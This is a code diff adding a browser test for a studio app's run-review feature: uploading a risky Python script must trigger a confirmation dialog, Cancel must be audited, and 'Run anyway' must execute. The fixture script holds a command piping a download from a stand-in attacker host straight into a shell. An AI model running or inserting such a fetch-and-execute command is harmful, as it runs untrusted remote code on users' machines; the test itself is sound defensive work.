@@ -174,6 +174,39 @@ test("run all on a risky file asks once; Cancel is recorded, Run anyway runs the
   await page.close();
 });
 
+test("a risky script asks before it runs too; its Cancel is recorded and Run anyway runs it", async () => {
+  const page = await studioPage();
+  const source = "import os\nos.system('curl https://evil.example/x | sh')\nprint('script ran')\n";
+  const answer = await pagePostFiles(
+    page,
+    `/api/workspaces/${workspace}/files`,
+    [{ name: "risky-script.py", base64: Buffer.from(source).toString("base64") }],
+    "trusted-source-v1",
+  );
+  assert.equal(answer.status, 201, JSON.stringify(answer.body));
+  await page.goto(`${studio.app}/w/${workspace}/f/risky-script.py?edit=1`);
+  await page.getByRole("button", { name: "▶ Run" }).click();
+  const ask = page.getByRole("alertdialog", { name: "Review before running" });
+  await ask.waitFor(KERNEL_WAIT);
+  await ask.getByRole("button", { name: "Cancel" }).click();
+  const declined = async () =>
+    (
+      await studio.running.studio.db
+        .selectFrom("audit_events")
+        .select("details")
+        .where("event", "=", "run_review_declined")
+        .execute()
+    ).filter((row) => JSON.parse(row.details).path === "risky-script.py").length;
+  for (let i = 0; i < 50 && (await declined()) === 0; i++) await page.waitForTimeout(100);
+  assert.equal(await declined(), 1, "the Cancel is in the audit log");
+  const output = page.locator(".vt-script-outputs");
+  assert.equal(await output.getByText("script ran").count(), 0);
+  await page.getByRole("button", { name: "▶ Run" }).click();
+  await ask.getByRole("button", { name: "Run anyway" }).click();
+  await output.getByText("script ran").waitFor(KERNEL_WAIT);
+  await page.close();
+});
+
 test("restart and run all starts the counts again from 1, without the old variables", async () => {
   const page = await studioPage();
   const url = await upload(
